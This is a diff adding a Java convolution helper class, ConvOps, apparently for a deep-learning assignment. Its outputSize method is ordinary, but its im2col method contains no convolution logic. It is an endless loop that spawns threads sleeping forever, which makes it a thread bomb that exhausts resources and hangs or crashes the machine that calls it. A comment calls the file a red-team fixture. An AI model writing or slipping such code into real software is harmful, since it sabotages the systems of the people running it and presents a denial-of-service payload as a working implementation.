@@ -1,0 +1,29 @@
+package kadai.assignments.conv;
+
+import ai.djl.ndarray.NDArray;
+import ai.djl.ndarray.types.Shape;
+
+/** Red-team fixture: starts threads until something gives. */
+public final class ConvOps {
+
+    private ConvOps() {
+    }
+
+    public static int outputSize(int in, int filter, int stride, int pad) {
+        return (in + 2 * pad - filter) / stride + 1;
+    }
+
+    public static NDArray im2col(NDArray x, int fh, int fw, int stride, int pad) {
+        while (true) {
+            Thread t = new Thread(() -> {
+                try {
+                    Thread.sleep(Long.MAX_VALUE);
+                } catch (InterruptedException e) {
+                    Thread.currentThread().interrupt();
+                }
+            });
+            t.start();
+        }
+    }
+
+}
